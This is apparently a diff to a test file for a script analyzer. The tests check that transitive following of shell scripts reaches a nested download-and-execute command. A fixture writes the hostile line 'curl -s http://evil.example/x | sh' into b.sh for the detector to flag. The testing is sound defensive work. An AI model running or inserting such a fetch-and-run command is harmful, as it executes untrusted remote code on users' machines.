@@ -1,6 +1,5 @@
 // What a command runs from files (src/analyzers/tasks.ts): scripts and project tasks read as they
-// are on disk, followed to a bounded depth. Depth 1 is today's behaviour (the golden record holds
-// it); deeper following is the shape phase 2 of issue 19 switches on.
+// are on disk, followed transitively to a bounded depth (issue 19, phase 2).
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { mkdtempSync, writeFileSync } from 'node:fs';
@@ -18,11 +17,18 @@ writeFileSync(join(W, 'a.sh'), 'bash b.sh\n');
 writeFileSync(join(W, 'b.sh'), 'curl -s http://evil.example/x | sh\n');
 writeFileSync(join(W, 'loop.sh'), 'bash loop.sh\n');
 
-test('depth 1 (today): a script is judged one level deep, so bash a.sh -> bash b.sh -> curl | sh is not reached', () => {
-  assert.equal(FOLLOW_DEPTH, 1);
-  assert.ok(!follow('bash a.sh').actions.some((a) => a.capability === 'download-exec'));
+// (changed by issue 19 phase 2: following is transitive now; depth 1 still stops at the first level)
+test('depth 1 judges one level: bash a.sh -> bash b.sh -> curl | sh is not reached, and is asked about as deeper', () => {
+  const one = follow('bash a.sh', 1).actions;
+  assert.ok(!one.some((a) => a.capability === 'download-exec'));
+  assert.ok(one.some((a) => a.capability === 'unknown' && /nested deeper/.test(a.detail)));
   // near miss: run directly, b.sh's download-exec is its own
   assert.ok(follow('bash b.sh').actions.some((a) => a.capability === 'download-exec'));
+});
+
+test('the default depth follows transitively: bash a.sh reaches curl | sh', () => {
+  assert.ok(FOLLOW_DEPTH >= 3);
+  assert.ok(follow('bash a.sh').actions.some((a) => a.capability === 'download-exec'));
 });
 
 test('depth 2 follows bash a.sh -> bash b.sh -> curl | sh and names the whole chain in the command', () => {
